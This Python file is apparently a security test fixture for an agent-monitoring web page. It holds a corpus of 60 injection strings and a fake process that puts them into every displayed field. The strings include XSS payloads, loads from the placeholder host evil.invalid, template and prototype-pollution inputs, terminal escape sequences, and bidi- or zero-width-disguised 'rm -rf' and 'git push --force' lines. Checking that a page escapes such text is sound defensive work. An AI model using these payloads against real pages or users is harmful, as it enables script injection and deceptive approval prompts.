"""Texts that a page must show as text: a tool, file name or server that fills a field may send one of these.

Each would set `window.executed`, or load something from `EVIL`, if any of it became markup, code or an address.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

EVIL = "evil.invalid"
_RUN = "window.executed=1"
_LOAD = f"//{EVIL}/x"

CORPUS = [
    # Elements with code
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src={_LOAD}.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><foreignObject><body onload="{_RUN}"/></foreignObject></svg>',
    f"<math><mtext></p><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f"<object data={_LOAD}></object><embed src={_LOAD}>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<title></title><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</pre></code></td></option></select><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href=javascript:{_RUN}?>",
    # Addresses
    f"javascript:{_RUN}",
    f" \x01javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}//",
    f'<a href="javascript:{_RUN}" autofocus>click</a>',
    f"[click](javascript:{_RUN})",
    f"![x](https:{_LOAD}.png)",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"https:{_LOAD}?q=",
    f"file:///etc/passwd\nhttps:{_LOAD}",
    # Things that load, send or style without code
    f"<link rel=stylesheet href={_LOAD}.css><style>@import '{_LOAD}.css'</style>",
    f"<base href=https:{_LOAD}/>",
    f'<meta http-equiv="refresh" content="0;url=https:{_LOAD}">',
    f"<form action=https:{_LOAD}><button autofocus>Approve</button></form>",
    f'<div style="position:fixed;inset:0;background:url({_LOAD})">cover</div>',
    f'x" style="background:url({_LOAD})" onmouseover="{_RUN}',
    # Templates, expressions and keys
    "${window.executed=1}{{constructor.constructor('window.executed=1')()}}<%= 1 %>#{1}",
    f"');{_RUN};//",
    f"`;{_RUN};`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;{_RUN}",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "__proto__",
    "constructor.prototype",
    # Terminals and what is not seen
    f"\x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07\x1b[31m<b>red</b>\x1b[0m\x1b]0;<title>\x07",
    "\x1b[2J\x1b[1;1Happroved\x08\x08\x9b31m\x00",
    "rm -rf ./build \u202e# hcus erehwyreve ton\u202c \u2066x\u2069",
    "git\u200b push\ufeff --for\u00adce\u2028now\u2029\U000e0041",
    f"\U0001f600 <img src=x onerror={_RUN}> \udbff".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    f"<img src=x onerror={_RUN}>" * 2_000,
]
assert len(CORPUS) == len(set(CORPUS)) == 60
_SHORT = CORPUS[:-1]

Answers = dict[str, Callable[[dict[str, Any]], Any]]


def _call(number: int, text: str) -> dict[str, Any]:
    status = ("success", "error", "partial", "raised", "running", text)[number % 6]
    arguments = {text: text, "__proto__": {"executed": text}, "nested": [text, {text: [text]}]}
    made = {"seq": number + 1, "session": text, "client": text, "tool": text, "arguments": arguments, "status": status}
    made |= {"code": text, "text": text[:2_000], "cut": True, "images": 1, "started": number, "seconds": 0.1}
    return made | {"tokens": 5, "__proto__": {"polluted": text}}


def _approval(number: int, text: str) -> dict[str, Any]:
    listed = {"runs": [text], "parts": [{"text": text, "why": text}], "effects": [text], "arguments": {text: text}}
    told = dict.fromkeys(("tool", "title", "text", "diff", "held", "scope"), text)
    now = {"asked": 1.0, "ends": 9e9, "digest": str(number), "lasting": True, "editable": True}
    return {"id": text if number % 2 else str(number), **told, **listed, **now}


def _entry(number: int, text: str) -> dict[str, Any]:
    named = {"tool": text, "session": text, "message": text, "time": 1.0, "checkpoint": text, "paths": [text]}
    return {"number": number + 1, **named, "undone": number % 3 == 0, "undo": number % 5 == 0}


def _at(params: dict[str, Any], name: str) -> str:
    """The text that belongs to the number of a request."""
    number = params.get(name)
    return CORPUS[(number - 1) % len(CORPUS)] if isinstance(number, int) else CORPUS[4]


def _file(text: str) -> dict[str, Any]:
    return {
        "path": text,
        "kind": text,
        "diff": f"--- {text}\n+++ {text}\n@@ {text}\n-{text}\n+{text}\n",
        "binary": False,
    }


def _rows(*names: str, **more: Any) -> list[dict[str, Any]]:
    return [{**dict.fromkeys(names, text), **more} for text in _SHORT]


def poisoned_process() -> Answers:
    """The answers of a process that has these texts in every field that the page can show."""
    first = CORPUS[5]
    hello = dict.fromkeys(("kind", "client", "workspace", "version", "dialect", "mode", "sandbox", "session"), first)
    check = {"command": first, "status": first, "output": first}
    pictures = [text for text in _SHORT if text.startswith("data:")] + [f"https:{_LOAD}.png"]
    return {
        "hello": lambda _: {"pid": 1, "started": 1.0, **hello},
        "calls": lambda _: {"calls": [_call(*one) for one in enumerate(CORPUS)][::-1], "more": False},
        "call_text": lambda given: {
            "text": _at(given, "seq"),
            "arguments": {_at(given, "seq"): _at(given, "seq")},
            "pictures": pictures,
        },
        "approvals": lambda _: {"waiting": [_approval(*one) for one in enumerate(CORPUS)]},
        "answer": lambda _: {"state": "refused", "why": first},
        "journal": lambda _: {"entries": [_entry(*one) for one in enumerate(_SHORT)][::-1], "more": False},
        "journal_entry": lambda given: {"files": [_file(_at(given, "number"))]},
        "undo": lambda _: first,
        "rewind": lambda _: {"ok": False, "text": first},
        "checkpoint": lambda _: {"ok": True, "text": first},
        "rewind_preview": lambda given: {"files": [_file(_at(given, "to"))]},
        "blame": lambda _: {"lines": _rows("text", "number", line=1)},
        "forks": lambda _: {"forks": _rows("name", "kind", "opened", changed=1, files=[_file(first)], check=check)},
        "jobs": lambda _: {"jobs": _rows("id", "title", "command", "status", seconds=1.0, terminal=True)},
        "job_output": lambda given: {"text": str(given.get("id")), "next": 1, "ended": True},
        "job_keys": lambda _: first,
        "job_stop": lambda _: first,
        "todos": lambda _: {"todos": _rows("text", "status")},
        "notes": lambda _: {"notes": _rows("id", "text", "time", tags=[first])},
        "memory": lambda _: {"notes": _rows("id", "text", "time", "tags")},
        "library": lambda _: {"passages": _rows("source", "text", score=0.5), "stats": first},
        "usage": lambda _: {"tools": _rows("tool", calls=1, errors=1, seconds=1.0, tokens=10)},
        "doctor": lambda _: {"rows": _rows("name", "state", "text")},
        "config": lambda _: {"text": "\n".join(_SHORT)},
    }
